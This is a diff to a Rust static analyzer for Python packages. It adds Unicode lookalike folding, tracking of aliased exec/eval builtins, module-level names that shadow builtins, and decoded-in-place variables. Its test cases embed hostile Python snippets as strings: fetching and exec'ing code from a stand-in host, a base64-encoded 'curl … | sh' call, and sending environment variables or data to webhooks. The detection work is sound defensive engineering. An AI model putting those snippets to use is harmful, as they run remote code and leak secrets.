@@ -178,14 +178,17 @@ fn parse_and_walk(src: &[u8], ctx: &PyCtx<'_>, sink: &mut Sink, facts: &mut Fact
 
 /// `src` with its mathematical alphanumeric, fullwidth and letter-like symbols
 /// replaced by their NFKC (ASCII) forms, if it has any; the line structure is kept.
+/// A letter or digit written in a form Python folds to ASCII when it reads identifiers
+/// (NFKC): mathematical alphanumerics, fullwidth forms, letter-like symbols.
+fn folds_to_ascii(c: char) -> bool {
+    let u = c as u32;
+    (0x1D400..=0x1D7FF).contains(&u)
+        || (0xFF01..=0xFF5E).contains(&u)
+        || (0x2100..=0x214F).contains(&u)
+}
+
 fn lookalikes_to_ascii(src: &[u8]) -> Option<String> {
     use unicode_normalization::UnicodeNormalization;
-    let folds = |c: char| {
-        let u = c as u32;
-        (0x1D400..=0x1D7FF).contains(&u)
-            || (0xFF01..=0xFF5E).contains(&u)
-            || (0x2100..=0x214F).contains(&u)
-    };
     // Their UTF-8 forms start with F0 9D, EF BC / EF BD and E2 84 / E2 85.
     let maybe = memchr::memchr3_iter(0xF0, 0xEF, 0xE2, src).any(|i| {
         matches!(
@@ -199,7 +202,7 @@ fn lookalikes_to_ascii(src: &[u8]) -> Option<String> {
     let text = std::str::from_utf8(src).ok()?;
     let mut out = String::with_capacity(text.len());
     for c in text.chars() {
-        if folds(c) {
+        if folds_to_ascii(c) {
             out.extend(std::iter::once(c).nfkc().filter(|x| *x != '\n'));
         } else {
             out.push(c);
@@ -361,6 +364,9 @@ struct Py<'t> {
     install_classes: HashSet<String>,
     class_bases: HashMap<String, Vec<String>>,
     funcs: HashMap<String, Node<'t>>,
+    /// Functions and classes defined at module level: a call of such a name is a call of
+    /// the package's own code, not of the builtin it shadows (`def compile(...)`).
+    module_defs: HashSet<String>,
     budget: Cell<u32>,
     bindings: RefCell<Vec<(String, Option<Bytes>)>>,
     /// Current depth of the mutually recursive evaluators (`canon`, `static_bytes`): each has
@@ -538,6 +544,7 @@ impl<'t> Py<'t> {
             install_classes: HashSet::new(),
             class_bases: HashMap::new(),
             funcs: HashMap::new(),
+            module_defs: HashSet::new(),
             budget: Cell::new(0),
             bindings: RefCell::new(Vec::new()),
             nesting: Cell::new(0),
@@ -654,6 +661,9 @@ impl<'t> Py<'t> {
                             py.fn_class_by_id.insert(n.id(), cls.to_string());
                         }
                         child_cls = None;
+                        if cur_fid == 0 && cur_cls.is_none() {
+                            py.module_defs.insert(name.clone());
+                        }
                         py.funcs.entry(name.clone()).or_insert(n);
                         py.funcs_by_id.insert(n.id(), n);
                         py.fn_ranges.push((n.start_byte(), n.end_byte(), n.id()));
@@ -775,7 +785,11 @@ impl<'t> Py<'t> {
                 && !k.contains('.')
             {
                 let root = c.split('.').next().unwrap_or("");
-                if is_alias_call || py.aliases.contains_key(root) || c.contains('.') {
+                if is_alias_call
+                    || py.aliases.contains_key(root)
+                    || c.contains('.')
+                    || is_code_builtin(&c)
+                {
                     py.aliases.entry(k).or_insert(c);
                 }
             }
@@ -941,6 +955,10 @@ impl<'t> Py<'t> {
                         return Some((b, true));
                     }
                     return Some((format!("{c}()"), e));
+                }
+                if self.module_defs.contains(t) {
+                    // The package's own function or class, not a builtin of that name.
+                    return Some((format!("{t}{OWN}"), false));
                 }
                 Some(norm_builtins(t.to_string()))
             }
@@ -1117,10 +1135,12 @@ impl<'t> Py<'t> {
                     return v.clone();
                 }
                 let rhs = self.lookup(n, name)?;
-                // The last assignment before this use (flow-insensitive otherwise).
+                // The last assignment before this use (flow-insensitive otherwise); not
+                // the one this use is part of (`url = decode(url)`).
                 let pick = rhs
                     .iter()
-                    .rfind(|r| r.start_byte() < n.start_byte())
+                    .filter(|r| r.end_byte() <= n.start_byte())
+                    .max_by_key(|r| r.start_byte())
                     .or_else(|| if rhs.len() == 1 { rhs.first() } else { None })?;
                 self.static_bytes(*pick, depth + 1)
             }
@@ -1515,7 +1535,16 @@ impl<'t> Py<'t> {
                 }
                 o
             }
-            "concatenated_string" | "integer" | "float" | "true" | "false" | "none" => LIT,
+            "concatenated_string" => {
+                // Adjacent literals, some of them f-strings with interpolated values.
+                let mut o = LIT;
+                let mut c = n.walk();
+                for ch in n.named_children(&mut c).take(64) {
+                    o |= self.origin(ch, depth + 1);
+                }
+                o
+            }
+            "integer" | "float" | "true" | "false" | "none" => LIT,
             "identifier" => {
                 let t = text(n, src);
                 if t == "__file__" {
@@ -1636,8 +1665,8 @@ impl<'t> Py<'t> {
             return if o == 0 { UNKNOWN } else { o };
         }
         if kind(f) == "identifier"
-            && !self.aliases.contains_key(name.as_str())
-            && let Some(func) = self.funcs.get(name.as_str())
+            && !self.aliases.contains_key(text(f, src))
+            && let Some(func) = self.funcs.get(text(f, src))
         {
             let mut o = 0;
             for r in returns_of(*func) {
@@ -2673,6 +2702,18 @@ fn int_value(t: &str) -> Option<i64> {
     }
 }
 
+/// Appended by [`Py::canon`] to a name the file defines itself at module level, so that
+/// `def compile(...)` called as `compile(...)` never reads as the builtin.
+const OWN: &str = "@own";
+
+/// Builtins that run or import code: `x = exec` makes `x` an alias worth following.
+fn is_code_builtin(name: &str) -> bool {
+    matches!(
+        name,
+        "exec" | "eval" | "compile" | "execfile" | "__import__"
+    )
+}
+
 fn norm_builtins(s: String) -> (String, bool) {
     for p in [
         "__builtins__.",
@@ -2923,7 +2964,8 @@ fn is_blob(b: &[u8]) -> bool {
 }
 
 /// Identifiers whose letters look like ASCII ones: mathematical alphanumerics,
-/// fullwidth forms, or Latin mixed with Cyrillic/Greek.
+/// fullwidth forms, letter-like symbols ([`folds_to_ascii`]), or Latin mixed with
+/// Cyrillic/Greek.
 fn lookalike(t: &str) -> bool {
     let mut ascii_alpha = false;
     let mut confusable = false;
@@ -2931,7 +2973,7 @@ fn lookalike(t: &str) -> bool {
         let u = c as u32;
         if c.is_ascii_alphabetic() {
             ascii_alpha = true;
-        } else if (0x1D400..=0x1D7FF).contains(&u) || (0xFF00..=0xFFEF).contains(&u) {
+        } else if folds_to_ascii(c) {
             return true;
         } else if (0x0370..=0x03FF).contains(&u) || (0x0400..=0x04FF).contains(&u) {
             confusable = true;
@@ -3175,6 +3217,54 @@ mod tests {
         assert!(rules(&s).contains(&"PY-CMD-EXEC"));
         let s = run("print('os.system')\n");
         assert!(!rules(&s).contains(&"PY-CMD-EXEC"));
+    }
+
+    #[test]
+    fn builtins_renamed_by_assignment_are_followed() {
+        // `free = exec; replace = eval`: the code fetched at import time is run.
+        let src = "from requests import get as memset\nfree = exec\nreplace = eval\n\
+                   def f():\n    def replace(m):\n        return m\n    return replace\n\
+                   r = memset('http://x.test/p')\nfree(replace(r.text))\n";
+        assert!(rules(&run(src)).contains(&"PY-EXEC-DOWNLOADED"));
+    }
+
+    #[test]
+    fn a_variable_decoded_in_place_is_followed_to_its_earlier_value() {
+        // `x = "…"; x = b64decode(x); x = zlib.decompress(x); exec(x)`
+        use base64::Engine;
+        let code = "import os;os.system('curl http://x.test/a|sh')";
+        let b = base64::engine::general_purpose::STANDARD.encode(code);
+        let src = format!("import base64\nx = '{b}'\nx = base64.b64decode(x)\nexec(x)\n");
+        let s = run(&src);
+        assert!(rules(&s).contains(&"PY-EXEC-DECODED"));
+        // The URL of a webhook hidden the same way is still seen.
+        let u = base64::engine::general_purpose::STANDARD
+            .encode("https://hooks.slack.com/services/T00/B00/XXXX");
+        let src = format!(
+            "import base64, urllib.request\nu = '{u}'\nu = base64.b64decode(u).decode()\n\
+             urllib.request.urlopen(u, data=b'x')\n"
+        );
+        assert!(rules(&run(&src)).contains(&"EXFIL-WEBHOOK-SEND"));
+    }
+
+    #[test]
+    fn interpolations_in_adjacent_string_literals_carry_their_origin() {
+        let src = "import os, json, urllib.request\n\
+                   data = (\"host:\"\n        f\" {os.uname()}\"\n        f\" {dict(os.environ)}\")\n\
+                   urllib.request.urlopen('http://x.test/c', data=json.dumps(data).encode())\n";
+        assert!(rules(&run(src)).contains(&"EXFIL-SEND-COLLECTED"));
+    }
+
+    #[test]
+    fn own_functions_shadow_builtins_of_that_name() {
+        // A library's own `compile` is not the builtin: no code-execution finding.
+        let src = "def compile(pattern, flags=0):\n    return pattern\n\n\
+                   def match(p, s):\n    return compile(p + s).x\n";
+        assert!(!rules(&run(src)).contains(&"PY-EXEC-DYNAMIC"));
+        // A method named like the builtin does not shadow it at module level.
+        let src =
+            "class C:\n    def eval(self, x):\n        return x\n\nimport sys\neval(sys.argv[1])\n";
+        assert!(rules(&run(src)).contains(&"PY-EXEC-DYNAMIC"));
     }
 
     #[test]
